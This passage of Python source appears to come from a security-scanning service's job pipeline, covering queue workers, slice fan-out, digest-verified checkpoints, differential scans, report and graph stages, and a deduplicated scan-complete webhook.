    spec = (claimed.get("request") or {}).get("_slice_work") or {}
    maybe_inject("pipeline:slice:item")
    parent_id = spec.get("parent")
    if not parent_id:
        raise RuntimeError(f"slice item {claimed['id']}: malformed work spec")
    cp = queue.get_checkpoint(parent_id, "discovery")
    if cp is None or cp.get("payload") is None:
        # Parent discovery not durable yet (or GC'd): retryable — the
        # backoff window gives the parent time to persist it.
        raise RuntimeError(
            f"slice item {claimed['id']}: parent {parent_id} discovery"
            " checkpoint unavailable"
        )
    if checkpoints.payload_digest(cp["payload"]) != cp["output_digest"]:
        # Same contract as stage restore: a corrupt row never reaches
        # the decoder — fail retryable and let the parent re-persist.
        record_dispatch("resilience", "checkpoint_invalid")
        raise RuntimeError(
            f"slice item {claimed['id']}: parent {parent_id} discovery"
            " checkpoint digest mismatch"
        )
    agents = pickle.loads(cp["payload"])
    idx = int(spec["index"])
    if not 0 <= idx < len(agents):
        raise RuntimeError(
            f"slice item {claimed['id']}: index {idx} outside parent inventory"
        )
    from agent_bom_trn.scanners.advisories import build_advisory_sources  # noqa: PLC0415
    from agent_bom_trn.scanners.package_scan import (  # noqa: PLC0415
        collect_slice_results,
        scan_agents_sync,
    )

    agent = agents[idx]
    advisory_source = build_advisory_sources(offline=bool(spec.get("offline")))
    with obs_trace.span(
        "pipeline:slice", attrs={"parent": parent_id, "slice_fp": spec["slice_fp"]}
    ):
        scan_agents_sync(
            [agent], advisory_source, max_hop_depth=int(spec.get("max_hops", 3))
        )
    payload = pickle.dumps(
        collect_slice_results(agent), protocol=pickle.HIGHEST_PROTOCOL
    )
    queue.save_slice_checkpoint(
        spec["tenant_id"], spec["params_fp"], spec["slice_fp"], "scan",
        checkpoints.payload_digest(payload), payload, "pickle", claimed["id"],
    )
    record_dispatch("resilience", "checkpoint_write")
    record_dispatch("scan", "slices_rescanned")


def _run_slice_batch(queue, batch: list[dict[str, Any]], worker_id: str) -> None:
    """Process a batch-claimed run of slice items, then ack them in ONE
    batched transaction — the claim/ack write amplification that made
    the shared queue file a convoy is paid once per batch, not once per
    slice. Failures ack individually (each needs its own error +
    backoff); a crash before the batch ack redelivers the whole run,
    which is safe because slice effects are idempotent upserts."""
    done: list[str] = []
    for item in batch:
        try:
            with _delivery_span(item, worker_id):
                _run_slice_item(queue, item)
            done.append(item["id"])
        except Exception as exc:  # noqa: BLE001 - one bad slice ≠ batch loss
            logger.warning("slice item %s failed: %s", item["id"], exc)
            try:
                queue.fail(item["id"], worker_id, str(exc))
            except Exception:  # noqa: BLE001
                logger.exception("could not record slice failure for %s", item["id"])
    if done:
        queue.complete_batch(done, worker_id)
        _fleet_beat(queue, worker_id, completions=len(done))


def _run_claimed_job(queue, claimed: dict[str, Any], worker_id: str) -> None:
    if (claimed.get("kind") or "scan") == "slice":
        # Child work item: no job row, no heartbeat thread (slices are
        # seconds, the visibility timeout reclaims a killed worker).
        _run_slice_batch(queue, [claimed], worker_id)
        return
    job_id = claimed["id"]
    jobs = get_job_store()
    # A replica other than the submitter (or a restarted process) won't
    # have the job row locally — recreate it from the claimed payload so
    # the scan actually runs everywhere the queue is shared.
    if jobs.get_job(job_id) is None:
        jobs.create_job(claimed["request"], tenant_id=claimed["tenant_id"], job_id=job_id)
    # Queue-age at claim: how long the job waited for a worker — the
    # queue-health signal the queue:age SLO objective burns on.
    enqueued_at = claimed.get("enqueued_at")
    if enqueued_at is not None:
        age_s = max(time.time() - float(enqueued_at), 0.0)
        obs_hist.observe("queue:age", age_s)
        obs_slo.note_request("queue:age", age_s, None)
    # stage_ref is shared with the scan runner so heartbeats report the
    # stage the worker is actually inside.
    stage_ref: dict[str, Any] = {"stage": None}
    _fleet_beat(
        queue, worker_id, pid=os.getpid(), host=socket.gethostname(),
        job_id=job_id, claims=1,
    )
    stop_heartbeat = threading.Event()

    def beat() -> None:
        while not stop_heartbeat.wait(config.QUEUE_HEARTBEAT_S):
            try:
                queue.heartbeat(job_id, worker_id)
            except Exception:  # noqa: BLE001
                logger.warning("queue heartbeat failed for %s", job_id)
            _fleet_beat(queue, worker_id, job_id=job_id, stage=stage_ref["stage"])

    heartbeat_thread = threading.Thread(target=beat, name=f"hb-{job_id[:8]}", daemon=True)
    heartbeat_thread.start()
    slice_stats: dict[str, Any] | None = None
    try:
        with _delivery_span(claimed, worker_id):
            slice_stats = _run_scan_sync(
                job_id, trace_ctx=claimed.get("trace_ctx"), queue=queue,
                stage_ref=stage_ref,
            )
    finally:
        stop_heartbeat.set()
    # _run_scan_sync records failures on the job row itself; mirror the
    # real outcome onto the queue so its counts stay truthful.
    final = jobs.get_job(job_id)
    status = (final or {}).get("status")
    if status in ("complete", "partial"):
        queue.complete(job_id, worker_id)
        _fleet_beat(
            queue, worker_id, completions=1,
            slices_reused=(slice_stats or {}).get("slices_reused", 0),
            slices_rescanned=(slice_stats or {}).get("slices_rescanned", 0),
        )
    else:
        # A cancel is an operator decision, not a transient fault —
        # redelivering it would resurrect work the user killed.
        queue.fail(
            job_id,
            worker_id,
            str((final or {}).get("error") or status or "unknown"),
            retryable=status != "cancelled",
        )
        _fleet_beat(queue, worker_id, failures=1)


def _queue_worker_loop() -> None:
    import uuid as _uuid

    worker_id = f"worker-{_uuid.uuid4().hex[:8]}"
    last_reclaim = 0.0
    last_idle_beat = 0.0
    # Idle beats keep the fleet registry's last_seen fresh between
    # claims without a write per 0.5 s poll tick.
    idle_beat_every = min(config.QUEUE_HEARTBEAT_S, 5.0)
    while True:
        queue = _queue
        if queue is None:
            return
        try:
            now = time.time()
            # Reclaim cadence tracks the visibility timeout so a shrunken
            # chaos/test window actually reclaims within that window.
            reclaim_every = min(
                _QUEUE_RECLAIM_EVERY_S, max(config.QUEUE_VISIBILITY_S / 2.0, 0.5)
            )
            if now - last_reclaim >= reclaim_every:
                last_reclaim = now
                queue.reclaim_stale()
            if now - last_idle_beat >= idle_beat_every:
                last_idle_beat = now
                _fleet_beat(
                    queue, worker_id, pid=os.getpid(), host=socket.gethostname()
                )
            # Batch claim: ONE shard transaction hands this worker a run
            # of work (a scan job, or up to QUEUE_CLAIM_BATCH slices).
            batch = queue.claim_batch(worker_id)
        except Exception:  # noqa: BLE001 - queue hiccup: back off, retry
            logger.exception("scan queue claim failed")
            time.sleep(2.0)
            continue
        if not batch:
            time.sleep(0.5)
            continue
        if (batch[0].get("kind") or "scan") == "slice":
            _run_slice_batch(queue, batch, worker_id)
            continue
        claimed = batch[0]
        try:
            _run_claimed_job(queue, claimed, worker_id)
        except Exception as exc:  # noqa: BLE001
            logger.exception("queued scan %s failed", claimed["id"])
            try:
                queue.fail(claimed["id"], worker_id, str(exc))
            except Exception:  # noqa: BLE001
                logger.exception("could not record queue failure for %s", claimed["id"])


def submit_scan_job(request: dict[str, Any], tenant_id: str = "default") -> str:
    jobs = get_job_store()
    job_id = jobs.create_job(request, tenant_id=tenant_id)
    # Capture the submitter's trace context NOW, on the handler thread:
    # the queue persists it per-row (survives redelivery and replica
    # hand-offs) and the executor path gets it as an explicit argument —
    # ThreadPoolExecutor does not propagate contextvars to pool threads.
    trace_ctx = propagation.current_traceparent()
    queue = _get_queue()
    if queue is not None:
        try:
            with obs_trace.span("queue:enqueue", attrs={"job_id": job_id}):
                queue.enqueue(
                    request, tenant_id=tenant_id, job_id=job_id, trace_ctx=trace_ctx
                )
        except Exception as exc:  # noqa: BLE001 - no orphaned 'queued' rows
            jobs.set_status(job_id, "failed", error=f"enqueue failed: {exc}")
            raise
    else:
        _get_executor().submit(_run_scan_sync, job_id, trace_ctx)
    return job_id


def _check_cancel(job_id: str) -> None:
    if get_job_store().cancel_requested(job_id):
        raise JobCancelled(job_id)


def _notify_scan_complete(
    job_id: str, request: dict[str, Any], doc: dict[str, Any], ledger: Any
) -> bool | None:
    """Exactly-once scan-complete webhook (``request["notify_url"]``).

    The delivery slot is claimed in the ``notify_log`` ledger (keyed by
    job id + report-doc digest) BEFORE the POST, so a redelivered job
    whose predecessor already got a 2xx skips the send entirely. The
    POST itself goes through the resilience seams — per-endpoint
    breaker + retry with decorrelated jitter — and carries the
    propagated ``traceparent`` plus an ``X-Idempotency-Key`` so even a
    crash inside the send window is receiver-dedupable. Exhaustion
    records a ``scan:notify`` degradation; notification never fails a
    job. Returns True (delivered), False (skipped/exhausted), None (no
    notify_url)."""
    url = request.get("notify_url")
    if not url:
        return None
    digest = checkpoints.doc_digest(doc)
    dedupe_key = checkpoints.notify_dedupe_key(job_id, digest)
    if not ledger.notify_claim(dedupe_key, job_id, digest):
        record_dispatch("resilience", "notify_dedup")
        logger.info("scan-complete notify for %s already delivered; skipping", job_id)
        return False
    body = json.dumps(
        {
            "jsonrpc": "2.0",
            "method": "notifications/scan_complete",
            "params": {
                "job_id": job_id,
                "scan_id": doc.get("scan_id"),
                "findings": len(doc.get("findings", [])),
                "doc_digest": digest,
            },
        }
    ).encode("utf-8")
    with obs_trace.span("pipeline:notify", attrs={"job_id": job_id, "url": url}):
        headers = propagation.inject(
            {"Content-Type": "application/json", "X-Idempotency-Key": dedupe_key}
        )
        from agent_bom_trn.resilience.breaker import breaker_for  # noqa: PLC0415
        from agent_bom_trn.resilience.degradation import record_degradation  # noqa: PLC0415
        from agent_bom_trn.resilience.http import resilient_fetch  # noqa: PLC0415

        endpoint = f"notify:{urllib.parse.urlsplit(url).netloc}"
        try:
            resilient_fetch(
                url,
                seam="notify",
                data=body,
                headers=headers,
                timeout=10.0,
                breaker=breaker_for(endpoint),
            )
        except Exception as exc:  # noqa: BLE001 - notification never fails a job
            record_degradation(
                "scan:notify", type(exc).__name__,
                attempts=config.RETRY_MAX_ATTEMPTS, detail=str(exc)[:200],
            )
            logger.warning("scan-complete notify for %s failed: %s", job_id, exc)
            return False
        ledger.notify_mark_delivered(dedupe_key)
        return True


# ── differential-scan helpers ───────────────────────────────────────────

def _fingerprint_slices(ctx: dict[str, Any]) -> None:
    """Content fingerprints for every slice + the whole estate, computed
    at discovery time (and on discovery restore). These key the
    ``(params_fp, slice_fp)`` checkpoint namespace warm scans reuse."""
    if not ctx.get("differential"):
        return
    agents = ctx.get("agents") or []
    request = ctx.get("request") or {}
    inventory = request.get("inventory") or {}
    source_docs = inventory.get("agents")
    # The doc fast path is only sound when hydration is the ONLY
    # transform between the submitted documents and the scanned agents:
    # demo ignores the inventory entirely, `path` runs package
    # extraction over the workspace, and `resolve_transitive` expands
    # dependencies — all mutate agents while the docs (and so the
    # fingerprints) stay constant, which would let an estate hit serve
    # a report that omits the added packages.
    hydration_only = not (
        request.get("demo") or request.get("path") or request.get("resolve_transitive")
    )
    if (
        hydration_only
        and isinstance(source_docs, list)
        and len(source_docs) == len(agents)
    ):
        # Inventory-sourced scans fingerprint the submitted per-agent
        # documents directly: the doc IS the content (hydration adds only
        # derived defaults) and it is ~4× smaller than the dataclass
        # walk — the fingerprint pass was the hottest slice of a warm
        # scan. agents_from_inventory maps documents 1:1 in order, so
        # fps[i] keys agents[i]'s slice artifacts.
        ctx["slice_fps"] = [checkpoints.slice_fingerprint(d) for d in source_docs]
    else:
        ctx["slice_fps"] = [checkpoints.slice_fingerprint(a) for a in agents]
    ctx["estate_fp"] = checkpoints.estate_fingerprint(
        ctx["params_fp"], ctx["slice_fps"]
    )


def _fresh_slice_checkpoint(
    store: Any, tenant_id: str, params_fp: str, slice_fp: str, stage: str
) -> dict[str, Any] | None:
    """A slice row usable for reuse: present, within the freshness TTL,
    and digest-verified. The TTL (AGENT_BOM_CHECKPOINT_MAX_AGE_S) is
    what bounds advisory staleness for the online OSV source, which has
    no version to fold into the cache key — without it an unchanged
    estate would replay cached findings forever and never surface CVEs
    published after its first scan."""
    cp = store.get_slice_checkpoint(tenant_id, params_fp, slice_fp, stage)
    if cp is None or cp["payload"] is None:
        return None
    max_age = config.CHECKPOINT_MAX_AGE_S
    if max_age > 0 and time.time() - float(cp["created_at"] or 0.0) > max_age:
        record_dispatch("resilience", "checkpoint_expired")
        return None
    if checkpoints.payload_digest(cp["payload"]) != cp["output_digest"]:
        record_dispatch("resilience", "checkpoint_invalid")
        return None
    return cp


def _estate_artifact(ctx: dict[str, Any]) -> bytes | None:
    """The full-estate report artifact for an identical (params, estate)
    pair, fresh and digest-verified — or None (cold, mutated, expired,
    or corrupt)."""
    if not ctx.get("differential") or not ctx.get("estate_fp"):
        return None
    cp = _fresh_slice_checkpoint(
        ctx["store"], ctx["tenant_id"], ctx["params_fp"], ctx["estate_fp"], "report"
    )
    return None if cp is None else cp["payload"]


def _adopt_estate_payload(ctx: dict[str, Any], payload: bytes) -> None:
    """Rehydrate doc+graph from the estate artifact and mark the job as
    an estate-level hit: scan/enrichment/report bodies are skipped and
    all three checkpoint this same JSON payload, so a crash anywhere in
    the skipped span resumes without needing the slice table again."""
    data = json.loads(payload.decode("utf-8"))
    ctx["doc"] = data["doc"]
    ctx["graph_doc"] = data["graph"]
    ctx["estate_payload"] = payload
    ctx["estate_hit"] = True


def _slice_fanout_join(
    ctx: dict[str, Any], queue: Any, miss_fps: list[str]
) -> set[str]:
    """Fan the dirty slices out to the fleet as child work items, then
    join: wait for their ``scan_slice_checkpoints`` rows to appear while
    HELPING — the parent claims its own children (``parent_id`` filter)
    and runs them inline, so a 1-worker fleet can never deadlock on its
    own barrier and an idle parent is one more worker, not a spectator.

    Child ids are deterministic (``slice:<job>:<fp>``) and enqueued with
    INSERT-OR-IGNORE, so a redelivered parent re-attaches to the
    surviving fan-out instead of duplicating it. The join closes on:
    all rows present, a child dead-lettering, or the
    ``SLICE_FANOUT_WAIT_S`` deadline — the latter two fall back to
    scanning the remaining slices locally (completeness beats
    parallelism). Either way ``sweep_children`` cancels every
    still-open child before return: zero orphan slice claims is a
    postcondition, not a hope. Crash seam ``pipeline:slice:join`` fires
    between fan-out and join assembly.

    Returns the fps whose artifacts are now durably present."""
    store, tenant_id = ctx["store"], ctx["tenant_id"]
    params_fp, job_id = ctx["params_fp"], ctx["job_id"]
    jobs, request = ctx["jobs"], ctx["request"]
    slice_fps = ctx["slice_fps"]
    first_idx: dict[str, int] = {}
    for i, fp in enumerate(slice_fps):
        if fp not in first_idx:
            first_idx[fp] = i
    trace_ctx = propagation.current_traceparent()
    items = []
    for fp in miss_fps:
        spec = {
            "parent": job_id,
            "index": first_idx[fp],
            "slice_fp": fp,
            "tenant_id": tenant_id,
            "params_fp": params_fp,
            "offline": bool(request.get("offline")),
            "max_hops": int(request.get("max_hops", 3)),
        }
        items.append(
            {
                "job_id": f"slice:{job_id}:{fp[:16]}",
                "tenant_id": tenant_id,
                "request": {"_slice_work": spec},
                "kind": "slice",
                "parent_id": job_id,
                "trace_ctx": trace_ctx,
            }
        )
    queue.enqueue_batch(items)
    record_dispatch("scan", "slice_fanout", len(items))
    jobs.add_event(
        job_id, "scan", "progress",
        f"fanned {len(items)} dirty slice(s) out to the fleet",
    )
    maybe_inject("pipeline:slice:join")
    helper_id = f"parent:{job_id[:12]}"
    deadline = time.time() + config.SLICE_FANOUT_WAIT_S
    pending = set(miss_fps)
    filled: set[str] = set()
    fallback_reason: str | None = None
    while pending:
        for fp in list(pending):
            if _fresh_slice_checkpoint(store, tenant_id, params_fp, fp, "scan"):
                pending.discard(fp)
                filled.add(fp)
        if not pending:
            break
        status = queue.children_status(job_id)
        if status.get("dead_letter"):
            fallback_reason = f"{status['dead_letter']} child(ren) dead-lettered"
            break
        if time.time() >= deadline:
            fallback_reason = f"join deadline ({config.SLICE_FANOUT_WAIT_S:g}s)"
            break
        helped = queue.claim_batch(helper_id, parent_id=job_id)
        if helped:
            _run_slice_batch(queue, helped, helper_id)
        else:
            # Children are claimed elsewhere — poll, don't spin.
            time.sleep(0.05)
    queue.sweep_children(job_id, fallback_reason or "join complete")
    if fallback_reason:
        record_dispatch("scan", "slice_join_fallback")
        jobs.add_event(
            job_id, "scan", "progress",
            f"join fallback ({fallback_reason}):"
            f" rescanning {len(pending)} slice(s) locally",
        )
    return filled


def _differential_scan(ctx: dict[str, Any], advisory_source: Any,
                       max_hop_depth: int) -> list[Any]:
    """Slice-level warm scan: replay cached per-slice match results, run
    the match engine only over uncached packages, write artifacts for
    the slices that missed. The estate-wide join always runs live.

    When claimed off the queue with ``SLICE_FANOUT_MIN_SLICES`` set and
    at least that many dirty slices, the misses are fanned out to the
    fleet first (:func:`_slice_fanout_join`); whatever the join fills
    becomes a cache replay here, so the merge below runs the SAME
    single join path either way — that one-join-path property is what
    makes the fanned-out report byte-identical to single-worker."""
    from agent_bom_trn.scanners.package_scan import (  # noqa: PLC0415
        collect_slice_results,
        scan_agents_differential,
    )

    store, tenant_id = ctx["store"], ctx["tenant_id"]
    params_fp, job_id = ctx["params_fp"], ctx["job_id"]
    agents, slice_fps = ctx["agents"], ctx["slice_fps"]
    cached: dict[tuple[str, str, str], dict] = {}
    hit_fps: set[str] = set()
    for fp in dict.fromkeys(slice_fps):
        cp = _fresh_slice_checkpoint(store, tenant_id, params_fp, fp, "scan")
        if cp is None:
            continue
        cached.update(pickle.loads(cp["payload"]))
        hit_fps.add(fp)
    reused = sum(1 for fp in slice_fps if fp in hit_fps)
    queue = ctx.get("queue")
    miss_fps = [fp for fp in dict.fromkeys(slice_fps) if fp not in hit_fps]
    if (
        queue is not None
        and config.SLICE_FANOUT_MIN_SLICES > 0
        and len(miss_fps) >= config.SLICE_FANOUT_MIN_SLICES
        and hasattr(queue, "enqueue_batch")
    ):
        for fp in _slice_fanout_join(ctx, queue, miss_fps):
            cp = _fresh_slice_checkpoint(store, tenant_id, params_fp, fp, "scan")
            if cp is not None:
                cached.update(pickle.loads(cp["payload"]))
                hit_fps.add(fp)
    # Fleet-sum truth: the parent counts only slices it rescans locally
    # (fanned slices were already counted as rescans by the child
    # workers that ran them — counting them here would double-book).
    rescanned = len(slice_fps) - sum(1 for fp in slice_fps if fp in hit_fps)
    blast_radii, _pkg_stats = scan_agents_differential(
        agents, advisory_source, cached, max_hop_depth=max_hop_depth
    )
    if reused:
        record_dispatch("resilience", "checkpoint_hit", reused)
        record_dispatch("scan", "slices_reused", reused)
    if rescanned:
        record_dispatch("scan", "slices_rescanned", rescanned)
    ctx["slice_stats"]["slices_reused"] += reused
    ctx["slice_stats"]["slices_rescanned"] += rescanned
    written: set[str] = set()
    for agent, fp in zip(agents, slice_fps):
        if fp in hit_fps or fp in written:
            continue
        written.add(fp)
        payload = pickle.dumps(
            collect_slice_results(agent), protocol=pickle.HIGHEST_PROTOCOL
        )
        store.save_slice_checkpoint(
            tenant_id, params_fp, fp, "scan",
            checkpoints.payload_digest(payload), payload, "pickle", job_id,
        )
        record_dispatch("resilience", "checkpoint_write")
    return blast_radii


# ── stage bodies ────────────────────────────────────────────────────────
# Each returns (payload, encoding) for the checkpoint row and leaves its
# outputs in ctx for downstream stages; _restore_stage is the inverse.

def _stage_discovery(ctx: dict[str, Any]) -> tuple[bytes, str]:
    """Inventory assembly: discover agents, extract packages, expand
    transitive dependencies (the old discovery + extraction steps — one
    stage because they share the agent list under construction)."""
    jobs, job_id, request = ctx["jobs"], ctx["job_id"], ctx["request"]
    jobs.add_event(job_id, "discovery", "start")
    if request.get("demo"):
        from agent_bom_trn.demo import load_demo_agents

        agents = load_demo_agents()
    elif request.get("inventory"):
        from agent_bom_trn.inventory import agents_from_inventory

        agents = agents_from_inventory(request["inventory"])
    else:
        from agent_bom_trn.discovery import discover_all

        agents = discover_all(project_path=request.get("path"))
    if request.get("path"):
        try:
            from pathlib import Path

            from agent_bom_trn.parsers import extract_packages_for_agents

            extract_packages_for_agents(agents, Path(request["path"]))
        except ImportError:
            pass
    if request.get("resolve_transitive") and not request.get("offline"):
        from agent_bom_trn.transitive import expand_agents_transitive

        try:
            added = expand_agents_transitive(agents)
        except Exception as exc:  # noqa: BLE001 - resolution never fails a job
            jobs.add_event(job_id, "discovery", "progress", f"transitive failed: {exc}")
        else:
            jobs.add_event(job_id, "discovery", "progress", f"{added} transitive package(s)")
    n_pkgs = sum(a.total_packages for a in agents)
    jobs.add_event(job_id, "discovery", "complete", f"{len(agents)} agents, {n_pkgs} packages")
    ctx["agents"] = agents
    _fingerprint_slices(ctx)
    return pickle.dumps(agents, protocol=pickle.HIGHEST_PROTOCOL), "pickle"


def _bundle(ctx: dict[str, Any]) -> bytes:
    """Agents + blast radii in ONE pickle: BlastRadius rows hold object
    references into the agent list, and a single payload preserves that
    shared identity across a crash/restore."""
    return pickle.dumps(
        {"agents": ctx["agents"], "blast_radii": ctx["blast_radii"]},
        protocol=pickle.HIGHEST_PROTOCOL,
    )


def _stage_scan(ctx: dict[str, Any]) -> tuple[bytes, str]:
    jobs, job_id, request = ctx["jobs"], ctx["job_id"], ctx["request"]
    jobs.add_event(job_id, "scan", "start")
    estate_payload = _estate_artifact(ctx)
    if estate_payload is not None:
        # Byte-identical estate under identical params: the committed
        # report+graph document IS this scan's output — skip the scan
        # body (and downstream, enrichment/report) entirely.
        _adopt_estate_payload(ctx, estate_payload)
        n = len(ctx.get("agents") or [])
        ctx["slice_stats"]["slices_reused"] += n
        ctx["slice_stats"]["estate_reused"] = True
        record_dispatch("resilience", "checkpoint_hit")
        if n:
            record_dispatch("scan", "slices_reused", n)
        jobs.add_event(
            job_id, "scan", "complete",
            f"estate unchanged — {n} slice(s) reused (differential)",
        )
        return estate_payload, "json"
    from agent_bom_trn.scanners.advisories import build_advisory_sources
    from agent_bom_trn.scanners.package_scan import scan_agents_sync

    advisory_source = build_advisory_sources(offline=bool(request.get("offline")))
    max_hops = int(request.get("max_hops", 3))
    if ctx.get("differential"):
        ctx["blast_radii"] = _differential_scan(ctx, advisory_source, max_hops)
    else:
        ctx["blast_radii"] = scan_agents_sync(
            ctx["agents"], advisory_source, max_hop_depth=max_hops
        )
    jobs.add_event(job_id, "scan", "complete", f"{len(ctx['blast_radii'])} findings")
    return _bundle(ctx), "pickle"


def _stage_enrichment(ctx: dict[str, Any]) -> tuple[bytes, str]:
    jobs, job_id, request = ctx["jobs"], ctx["job_id"], ctx["request"]
    jobs.add_event(job_id, "enrichment", "start")
    if ctx.get("estate_hit"):
        jobs.add_event(job_id, "enrichment", "complete", "estate unchanged (differential)")
        return ctx["estate_payload"], "json"
    if request.get("enrich") and not request.get("offline"):
        from agent_bom_trn.enrichment import enrich_blast_radii

        try:
            summary = enrich_blast_radii(ctx["blast_radii"])
        except Exception as exc:  # noqa: BLE001 - enrichment never fails a job
            jobs.add_event(job_id, "enrichment", "complete", f"enrichment failed: {exc}")
        else:
            jobs.add_event(
                job_id, "enrichment", "complete", f"enriched {summary.enriched} finding(s)"
            )
    else:
        jobs.add_event(job_id, "enrichment", "complete", "not requested")
    return _bundle(ctx), "pickle"


def _stage_report(ctx: dict[str, Any]) -> tuple[bytes, str]:
    """Report build + graph analysis + serialization. analyze_report
    mutates the report's reach fields, so the doc is serialized AFTER it
    — the checkpointed doc is the final byte truth later stages (and the
    webhook) must reuse verbatim; rebuilding it after a crash would mint
    a fresh ``generated_at`` and break byte-identity."""
    jobs, job_id = ctx["jobs"], ctx["job_id"]
    jobs.add_event(job_id, "report", "start")
    if ctx.get("estate_hit"):
        jobs.add_event(job_id, "report", "complete", "reused estate report (differential)")
        return ctx["estate_payload"], "json"
    from agent_bom_trn.graph.analyze import analyze_report
    from agent_bom_trn.output.json_fmt import to_json
    from agent_bom_trn.report import build_report

    report = build_report(ctx["agents"], ctx["blast_radii"], scan_sources=["api"])
    graph = analyze_report(report)
    doc = to_json(report)
    ctx["doc"] = doc
    ctx["graph"] = graph
    ctx["graph_doc"] = graph.to_dict()
    jobs.add_event(
        job_id,
        "report",
        "complete",
        f"{graph.node_count} nodes, {len(graph.attack_paths)} attack paths",
    )
    payload = json.dumps(
        {"doc": doc, "graph": ctx["graph_doc"]}, sort_keys=True, default=str
    ).encode("utf-8")
    if ctx.get("differential") and ctx.get("estate_fp"):
        # Publish the estate-level artifact: the NEXT scan of this exact
        # estate (any job, any worker) skips straight to this document.
        ctx["store"].save_slice_checkpoint(
            ctx["tenant_id"], ctx["params_fp"], ctx["estate_fp"], "report",
            checkpoints.payload_digest(payload), payload, "json", job_id,
        )
        record_dispatch("resilience", "checkpoint_write")
    return payload, "json"


def _stream_publish_graph(
    store: Any, graph: Any, scan_id: str | None, tenant_id: str, job_id: str
) -> int:
    """Publish a large graph through the chunked streamed-snapshot path.

    Node/edge documents go to the store in bounded batches off the
    iteration protocol instead of one monolithic snapshot document, so
    publishing a 100k-agent estate never doubles its RAM. The snapshot
    stays staged (is_current=-1) until the caller commits it — same
    crash-safety contract as ``stage_graph``."""
    snapshot_id = store.begin_streamed_snapshot(scan_id, tenant_id=tenant_id, job_id=job_id)
    batch: list[dict[str, Any]] = []
    for node in graph.iter_nodes():
        batch.append(node.to_dict())
        if len(batch) >= 2000:
            store.append_snapshot_nodes(snapshot_id, batch)
            batch = []
    if batch:
        store.append_snapshot_nodes(snapshot_id, batch)
    batch = []
    for edge in graph.iter_edges():
        batch.append(edge.to_dict())
        if len(batch) >= 2000:
            store.append_snapshot_edges(snapshot_id, batch)
            batch = []
    if batch:
        store.append_snapshot_edges(snapshot_id, batch)
    store.finalize_streamed_snapshot(
        snapshot_id,
        graph.node_count,
        graph.edge_count,
        {
            "attack_paths": [p.to_dict() for p in graph.attack_paths],
            "campaigns": [c.to_dict() for c in graph.campaigns],
            "analysis_status": graph.analysis_status,
            "metadata": graph.metadata,
        },
    )
    return snapshot_id


def _stage_graph_build(ctx: dict[str, Any]) -> tuple[bytes, str]:
    """Atomic graph publish: build into the staging namespace, swap on
    commit — a crash mid-build leaves the previous estate graph intact.
    Per-job dedupe: a redelivered job whose predecessor already
    committed reuses that snapshot instead of publishing twice.
    Estates at or above GRAPH_STREAM_PUBLISH_NODES publish through the
    chunked streamed-snapshot path instead of one snapshot document."""
    jobs, job_id, tenant_id = ctx["jobs"], ctx["job_id"], ctx["tenant_id"]
    jobs.add_event(job_id, "graph_build", "start")
    store = get_graph_store()
    scan_id = ctx["doc"].get("scan_id")
    existing = store.job_snapshot_id(tenant_id, job_id)
    if existing is not None:
        record_dispatch("resilience", "graph_publish_dedup")
        jobs.add_event(job_id, "graph_build", "complete", f"snapshot {existing} (deduped)")
        ctx["snapshot_id"] = existing
    else:
        graph = ctx.get("graph")
        if graph is None:
            from agent_bom_trn.graph.container import UnifiedGraph

            graph = UnifiedGraph.from_dict(ctx["graph_doc"])
        if graph.node_count >= config.GRAPH_STREAM_PUBLISH_NODES:
            record_dispatch("graph_publish", "streamed")
            snapshot_id = _stream_publish_graph(store, graph, scan_id, tenant_id, job_id)
        else:
            record_dispatch("graph_publish", "document")
            snapshot_id = store.stage_graph(graph, scan_id, tenant_id=tenant_id, job_id=job_id)
        store.commit_staged(snapshot_id, tenant_id)
        jobs.add_event(job_id, "graph_build", "complete", f"snapshot {snapshot_id}")
        ctx["snapshot_id"] = snapshot_id
    payload = json.dumps({"snapshot_id": ctx["snapshot_id"], "scan_id": scan_id})
    return payload.encode("utf-8"), "json"


def _stage_notify(ctx: dict[str, Any]) -> tuple[bytes, str]:
    jobs, job_id, doc = ctx["jobs"], ctx["job_id"], ctx["doc"]
    findings = get_findings_store(tenant_id=ctx["tenant_id"])
    findings.clear()
    findings.extend(doc["findings"])
    jobs.set_status(job_id, "complete", report=doc)
    jobs.add_event(job_id, "notify", "complete")
    delivered = _notify_scan_complete(job_id, ctx["request"], doc, ctx["store"])
    return json.dumps({"delivered": delivered}).encode("utf-8"), "json"


_STAGE_FNS = {
    "discovery": _stage_discovery,
    "scan": _stage_scan,
    "enrichment": _stage_enrichment,
    "report": _stage_report,
    "graph_build": _stage_graph_build,
    "notify": _stage_notify,
}


def _restore_stage(stage: str, ctx: dict[str, Any], cp: dict[str, Any]) -> None:
    """Inverse of the stage body: rehydrate ctx from a checkpoint payload
    so downstream stages run exactly as if the stage had just executed.
    The caller has already verified sha256(payload) == output_digest, so
    the pickles below only ever decode blobs this pipeline wrote and the
    fingerprint chain endorses (same trust domain as the queue DB file;
    corruption re-runs the stage instead of reaching the decoder)."""
    payload = cp["payload"]
    if stage == "discovery":
        ctx["agents"] = pickle.loads(payload)
        _fingerprint_slices(ctx)
    elif stage in ("scan", "enrichment"):
        if cp["encoding"] == "json":
            # Estate-skip checkpoint (differential): the payload is the
            # reused report+graph document, not a model bundle — adopt it
            # so the remaining skipped stages stay skipped on resume.
            _adopt_estate_payload(ctx, payload)
        else:
            bundle = pickle.loads(payload)
            ctx["agents"] = bundle["agents"]
            ctx["blast_radii"] = bundle["blast_radii"]
    elif stage == "report":
        data = json.loads(payload.decode("utf-8"))
        ctx["doc"] = data["doc"]
        ctx["graph_doc"] = data["graph"]
    elif stage == "graph_build":
        ctx["snapshot_id"] = json.loads(payload.decode("utf-8"))["snapshot_id"]
    # notify: terminal effects, nothing downstream to rehydrate


def _run_scan_sync(
    job_id: str,
    trace_ctx: str | None = None,
    queue: Any = None,
    stage_ref: dict[str, Any] | None = None,
) -> dict[str, Any] | None:
    """Blocking scan runner — one job, six resumable stages, cancellable
    at boundaries.

    ``trace_ctx`` is the submitter's serialized trace context, passed
    explicitly because this runs on executor/queue-worker threads that
    never inherit the handler's contextvars. ``queue`` (when claimed off
    the durable queue) doubles as the checkpoint store so resume state
    survives the process and is visible to whichever replica reclaims
    the job; executor mode checkpoints into the job store instead.

    Per stage: verify the digest-keyed checkpoint (hit → restore + skip;
    stale fingerprint or corrupt payload → invalidate + re-run), inject
    the chaos seam
    (``pipeline:stage:<name>`` — crash faults land here, BEFORE any live
    work), run the body, persist the new checkpoint."""
    jobs = get_job_store()
    job = jobs.get_job(job_id)
    if job is None:
        return None
    request = job["request"]
    store = queue if queue is not None else jobs
    use_checkpoints = config.SCAN_CHECKPOINTS
    request_fp = checkpoints.request_fingerprint(request)
